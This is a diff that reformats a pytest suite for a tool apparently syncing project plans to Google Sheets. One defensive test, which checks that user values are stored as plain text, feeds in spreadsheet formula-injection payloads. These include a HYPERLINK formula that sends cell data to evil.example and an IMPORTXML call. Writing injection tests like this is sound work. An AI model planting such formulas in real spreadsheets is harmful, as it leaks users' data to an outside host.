@@ -37,15 +37,18 @@ def cfg(tmp_path: Path) -> Config:
 
 
 def publish(plan, cfg, *, dry_run=False, sleeps=None, **kw):
-    return publish_plan(plan, cfg, dry_run=dry_run, client_factory=token_client_factory(sleeps),
-                        now=NOW, **kw)
+    return publish_plan(
+        plan, cfg, dry_run=dry_run, client_factory=token_client_factory(sleeps), now=NOW, **kw
+    )
 
 
 def test_first_publish_creates_six_worksheets_in_two_calls(fake, cfg):
     report = publish(make_plan(12), cfg)
     assert fake.titles(SPREADSHEET_ID) == ["Sheet1", *SIX]
     assert [(k, u.split("?")[0].rsplit("/", 1)[1]) for k, u in fake.calls] == [
-        ("get", SPREADSHEET_ID), ("batchUpdate", f"{SPREADSHEET_ID}:batchUpdate")]
+        ("get", SPREADSHEET_ID),
+        ("batchUpdate", f"{SPREADSHEET_ID}:batchUpdate"),
+    ]
     assert "fields=sheets" in fake.calls[0][1]  # a field-masked read, never the whole file
     assert report.calls == 2 and report.batches == 1
     assert report.created == SIX and report.changed == [] and report.rows_changed > 12
@@ -60,7 +63,7 @@ def test_worksheet_contents(fake, cfg):
     # the 3x3 heat grid under the register, as in the Markdown: likelihood rows high → low,
     # impact columns low → high
     grid_at = risks.index(["Likelihood \\ Impact", "Low", "Medium", "High"])
-    assert [r[0] for r in risks[grid_at + 1: grid_at + 4]] == ["High", "Medium", "Low"]
+    assert [r[0] for r in risks[grid_at + 1 : grid_at + 4]] == ["High", "Medium", "Low"]
     levels = ("high", "medium", "low")
     for r in plan.risks:
         row = risks[grid_at + 1 + levels.index(r.likelihood)]
@@ -88,17 +91,23 @@ def test_formats_frozen_header_filter_widths_and_gantt_colours(fake, cfg):
     tl = fake.sheet(SPREADSHEET_ID, "Timeline")
     assert tl.props["gridProperties"]["frozenRowCount"] == 1
     assert tl.cells[(0, 0)]["userEnteredFormat"]["textFormat"]["bold"] is True
-    assert tl.basic_filter["range"] == {"sheetId": tl.props["sheetId"], "startRowIndex": 0,
-                                        "endRowIndex": 13, "startColumnIndex": 0,
-                                        "endColumnIndex": 15}
+    assert tl.basic_filter["range"] == {
+        "sheetId": tl.props["sheetId"],
+        "startRowIndex": 0,
+        "endRowIndex": 13,
+        "startColumnIndex": 0,
+        "endColumnIndex": 15,
+    }
     assert tl.widths[1] == 240  # from mappings/sheets.toml
     crit = next(i for i, t in enumerate(plan.tasks) if t.critical and t.kind == "task")
     other = next(i for i, t in enumerate(plan.tasks) if not t.critical)
 
     def bar(i):
-        return {c: v["userEnteredFormat"]["backgroundColor"]
-                for (r, c), v in tl.cells.items() if r == i + 1 and c >= 15
-                and "backgroundColor" in v.get("userEnteredFormat", {})}
+        return {
+            c: v["userEnteredFormat"]["backgroundColor"]
+            for (r, c), v in tl.cells.items()
+            if r == i + 1 and c >= 15 and "backgroundColor" in v.get("userEnteredFormat", {})
+        }
 
     crit_colours = set(map(str, bar(crit).values()))
     other_colours = set(map(str, bar(other).values()))
@@ -110,7 +119,10 @@ def test_formats_frozen_header_filter_widths_and_gantt_colours(fake, cfg):
     assert set(bar(other)) == set(range(min(weeks), max(weeks) + 1))
     risks = fake.sheet(SPREADSHEET_ID, "Risks")
     assert risks.cells[(1, 4)]["userEnteredFormat"]["backgroundColor"] == {
-        "red": 1.0, "green": 0.7804, "blue": 0.8078}  # score 9 → risk_high #FFC7CE
+        "red": 1.0,
+        "green": 0.7804,
+        "blue": 0.8078,
+    }  # score 9 → risk_high #FFC7CE
 
 
 def test_unchanged_plan_costs_one_read_and_no_write(fake, cfg):
@@ -126,21 +138,23 @@ def test_unchanged_plan_costs_one_read_and_no_write(fake, cfg):
 def test_changed_task_rewrites_only_its_rows_and_the_last_synced_time(fake, cfg):
     plan = make_plan(12)
     publish(plan, cfg)
-    renamed = plan.model_copy(update={"tasks": [
-        plan.tasks[0].model_copy(update={"name": "Renamed"}), *plan.tasks[1:]]})
+    renamed = plan.model_copy(
+        update={"tasks": [plan.tasks[0].model_copy(update={"name": "Renamed"}), *plan.tasks[1:]]}
+    )
     later = NOW + dt.timedelta(hours=1)
-    report = publish_plan(renamed, cfg, dry_run=False, client_factory=token_client_factory(),
-                          now=later)
+    report = publish_plan(renamed, cfg, dry_run=False, client_factory=token_client_factory(), now=later)
     assert report.calls == 2
     assert {s.title: s.rows_changed for s in report.sheets if s.rows_changed} == {
-        "Timeline": 1, "RACI": 1, "Dashboard": 1}
+        "Timeline": 1,
+        "RACI": 1,
+        "Dashboard": 1,
+    }
     assert fake.values(SPREADSHEET_ID, "Timeline")[1][1] == "Renamed"
     body = fake.bodies[-1]
     kinds = [next(iter(r)) for r in body["requests"]]
     assert kinds == ["updateCells"] * 3  # no sheet, width or filter churn
     dash = fake.values(SPREADSHEET_ID, "Dashboard")
-    assert dash[-1][1] == pytest.approx((later - dt.datetime(1899, 12, 30)).total_seconds()
-                                        / 86400)
+    assert dash[-1][1] == pytest.approx((later - dt.datetime(1899, 12, 30)).total_seconds() / 86400)
 
 
 def test_removed_rows_are_cleared_in_the_same_batch(fake, cfg):
@@ -174,23 +188,35 @@ def test_human_edits_are_put_back(fake, cfg):
     assert publish(plan, cfg).batches == 0
 
 
-@pytest.mark.parametrize("evil", [
-    '=HYPERLINK("https://evil.example/?"&A1,"click")',
-    "=IMPORTXML(\"https://evil.example\",\"//a\")",
-    "+1+2", "-3+4", "@SUM(A1)", "'quoted", "=1+2",
-])
+@pytest.mark.parametrize(
+    "evil",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        '=IMPORTXML("https://evil.example","//a")',
+        "+1+2",
+        "-3+4",
+        "@SUM(A1)",
+        "'quoted",
+        "=1+2",
+    ],
+)
 def test_injection_attempts_land_as_literal_text(fake, cfg, evil):
     plan = make_plan(8, task_name=evil, risk_title=evil, owner=evil)
     publish(plan, cfg)
     tl = fake.sheet(SPREADSHEET_ID, "Timeline")
-    hits = [(t, v) for t in SIX for (r, c), v in fake.sheet(SPREADSHEET_ID, t).cells.items()
-            if evil in str(v.get("userEnteredValue"))]
+    hits = [
+        (t, v)
+        for t in SIX
+        for (r, c), v in fake.sheet(SPREADSHEET_ID, t).cells.items()
+        if evil in str(v.get("userEnteredValue"))
+    ]
     assert len(hits) >= 4 and tl
     for title, v in hits:
         assert set(v["userEnteredValue"]) == {"stringValue"}, (title, v)
     assert fake.cell(SPREADSHEET_ID, "Timeline", 1, 1) == ("string", evil)
-    assert not any(str(x).startswith("FORMULA:") for t in SIX
-                   for row in fake.values(SPREADSHEET_ID, t) for x in row)
+    assert not any(
+        str(x).startswith("FORMULA:") for t in SIX for row in fake.values(SPREADSHEET_ID, t) for x in row
+    )
 
 
 def test_dry_run_reads_and_writes_nothing(fake, cfg):
@@ -276,11 +302,25 @@ def test_prefix_lets_two_plans_share_a_spreadsheet(fake, tmp_path):
 def test_status_fills_forecast_and_jira_columns(fake, cfg):
     plan = make_plan(8)
     t0 = plan.tasks[0]
-    status = {"schema": "syncsvc.status/1", "plan_id": plan.plan_id, "as_of": "2027-01-11",
-              "forecast_finish": "2027-02-10", "slip_days": 3, "state": "slipping",
-              "tasks": [{"id": t0.id, "issue_key": "NOTIF-1", "status": "In Progress",
-                         "status_category": "indeterminate", "forecast_finish": "2027-01-12",
-                         "slip_days": 1, "critical": True}]}
+    status = {
+        "schema": "syncsvc.status/1",
+        "plan_id": plan.plan_id,
+        "as_of": "2027-01-11",
+        "forecast_finish": "2027-02-10",
+        "slip_days": 3,
+        "state": "slipping",
+        "tasks": [
+            {
+                "id": t0.id,
+                "issue_key": "NOTIF-1",
+                "status": "In Progress",
+                "status_category": "indeterminate",
+                "forecast_finish": "2027-01-12",
+                "slip_days": 1,
+                "critical": True,
+            }
+        ],
+    }
     publish(plan, cfg, status=status)
     dash = {r[0]: r[1] for r in fake.values(SPREADSHEET_ID, "Dashboard") if len(r) > 1}
     assert dash["State"] == "slipping" and dash["Slip (working days)"] == 3
@@ -327,9 +367,19 @@ def test_sentences_across_a_table_are_merged_and_kept_in_step(fake, cfg):
     plan = make_plan(8)
     rb = plan.rollback
     assert rb is not None
-    longer = plan.model_copy(update={"rollback": rb.model_copy(update={
-        "verification": [*rb.verification, "Support reports no new tickets for an hour",
-                         "The status page shows all clear"]})})
+    longer = plan.model_copy(
+        update={
+            "rollback": rb.model_copy(
+                update={
+                    "verification": [
+                        *rb.verification,
+                        "Support reports no new tickets for an hour",
+                        "The status page shows all clear",
+                    ]
+                }
+            )
+        }
+    )
     publish(longer, cfg)
     sheet = fake.sheet(SPREADSHEET_ID, "Rollback")
     rows = fake.values(SPREADSHEET_ID, "Rollback")
@@ -338,13 +388,15 @@ def test_sentences_across_a_table_are_merged_and_kept_in_step(fake, cfg):
     assert sorted(sheet.merges) == [(i, i + 1, 0, 6) for i in at]  # across steps and triggers
     assert publish(longer, cfg).batches == 0  # read back, nothing to redo
     # one check fewer: its merge goes (the rows below move up), the rest stay merged
-    shorter = longer.model_copy(update={"rollback": longer.rollback.model_copy(update={
-        "verification": longer.rollback.verification[:2]})})
+    shorter = longer.model_copy(
+        update={
+            "rollback": longer.rollback.model_copy(update={"verification": longer.rollback.verification[:2]})
+        }
+    )
     report = publish(shorter, cfg)
     kinds = [next(iter(r)) for r in fake.bodies[-1]["requests"]]
     assert report.changed == ["Rollback"] and "mergeCells" not in kinds
-    assert sorted(fake.sheet(SPREADSHEET_ID, "Rollback").merges) == [
-        (i, i + 1, 0, 6) for i in at[:2]]
+    assert sorted(fake.sheet(SPREADSHEET_ID, "Rollback").merges) == [(i, i + 1, 0, 6) for i in at[:2]]
     assert publish(shorter, cfg).batches == 0
     # and back: the third check is merged again
     assert publish(longer, cfg).changed == ["Rollback"]
